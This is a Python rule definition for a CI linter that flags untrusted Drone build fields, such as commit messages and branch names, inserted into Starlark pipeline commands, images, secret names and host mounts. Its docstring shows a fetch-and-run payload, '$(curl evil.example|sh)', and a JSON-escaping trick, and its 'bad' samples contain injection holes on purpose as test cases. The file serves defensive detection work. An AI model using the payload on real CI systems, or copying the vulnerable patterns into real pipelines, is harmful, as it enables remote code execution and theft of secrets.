"""Untrusted text that a Starlark program inserts into its pipelines."""

from __future__ import annotations

from drone_lint.api import CWE, OWASP, Confidence, Severity, Starlark, Trigger
from drone_lint_rules.injection._arriving import ArrivalRule


class StarlarkInjection(ArrivalRule):
    r"""A Starlark program inserts untrusted text into a pipeline.

    `ctx.build.message`, `title`, `author_*`, `source` and similar fields contain text of users without any permissions, and `ctx.build.params` contains values that the user
    who starts a build chooses. In `commands` such text is shell code: `'echo "%s"' % ctx.build.message` with the message `$(curl evil.example|sh)` runs that command.
    In `image` the text decides which image runs, in `from_secret` which secret the step gets, and in `host.path` what is mounted from the host.

    Other keys are affected, too: the server escapes the text in the JSON that it generates, but the runner then replaces `${...}` and removes backslashes in all of
    that JSON. A message that contains `\"` then ends the string and can add keys.

    drone-lint tracks the text through functions, formats and string methods. A value that is only compared (`if ctx.build.branch == "main"`) is not reported, unless it decides
    `privileged`. Branch names are reported outside commands, images and similar keys only by the pedantic profile; build parameters are notices.

    Let the shell read the variable from its environment, in double quotes: `"$DRONE_COMMIT_MESSAGE"`.
    """

    name = "starlark-injection"
    language = "starlark"
    prefix = "ctx."
    choice = "'a' if ... else 'b'"
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    trigger = Trigger(fact="Arrival")
    why = "the server escapes the text only for JSON: the shell still reads it as code, and runners replace `${...}` and backslashes in it"
    references = (OWASP.CICD_SEC_4, CWE(78), CWE(94))

    bad = (
        Starlark("""
        def main(ctx):
          return {"kind": "pipeline", "type": "docker", "name": "a", "steps": [
            {"name": "direct", "image": "alpine:3.20", "commands": [
              'echo "' + ctx.build.message + '"',  # <- starlark-injection
              "make",
            ]},
          ]}
        """),
        Starlark("""
        def announce(text):
          return 'announce "%s"' % text  # <- starlark-injection

        def main(ctx):
          parts = ctx.build.source.split("/")
          return {"kind": "pipeline", "type": "docker", "name": "a", "steps": [{
            "name": "through functions",
            "image": "registry.example.com/ci:" + parts[-1].lower(),  # <- starlark-injection
            "commands": [
              announce(ctx.build.title.replace("a", "b")),
              "git fetch origin {branch}".format(branch = ctx.build.branch),  # <- starlark-injection
            ],
            "settings": {
              "text": ctx.build.author_name[:10],  # <- starlark-injection
              "list": ",".join(["x", ctx.build.title]),  # <- starlark-injection
            },
          }]}
        """),
        Starlark("""
        def main(ctx):
          target = ctx.build.branch
          return {
            "kind": "pipeline",
            "type": "docker",
            "name": "choices",
            "steps": [{
              "name": "deploy",
              "image": "alpine:3.20",
              "environment": {"TOKEN": {"from_secret": "token_" + target}},  # <- starlark-injection
              "volumes": [{"name": "cache", "path": "/cache"}],
            }],
            "volumes": [{"name": "cache", "host": {"path": "/cache/%s" % target}}],  # <- starlark-injection
          }
        """),
        Starlark("""
        def main(ctx):
          said = "[host]" in ctx.build.message
          return {"kind": "pipeline", "type": "docker", "name": "a", "steps": [
            {"name": "decides", "image": "alpine:3.20", "privileged": said},  # <- starlark-injection
          ]}
        """),
    )
    good = (
        Starlark("""
        def main(ctx):
          branch = ctx.build.branch
          return {"kind": "pipeline", "type": "docker", "name": "a", "steps": [
            {
              "name": "decides only",
              "image": "alpine:3.20" if branch.startswith("release/") else "alpine:3.19",
              "privileged": branch == "main",
              "commands": [
                'echo "$DRONE_COMMIT_MESSAGE" ' + ctx.build.event + ctx.build.commit + ctx.repo.name,
                "test %d" % len(ctx.build.message),
                "deploy " + branch if branch == "main" else "echo no",
              ],
            },
            {"name": "fixed", "image": "alpine:3.20", "commands": ["deploy " + branch], "when": {"branch": ["main"]}},
          ]}
        """),
        Starlark("""
        def main(ctx):
          unused = ctx.build.message
          return {"kind": "pipeline", "type": "docker", "name": "a", "steps": [
            {"name": "a", "image": "alpine:3.20", "commands": ["echo hello"]},
          ]}
        """),
    )
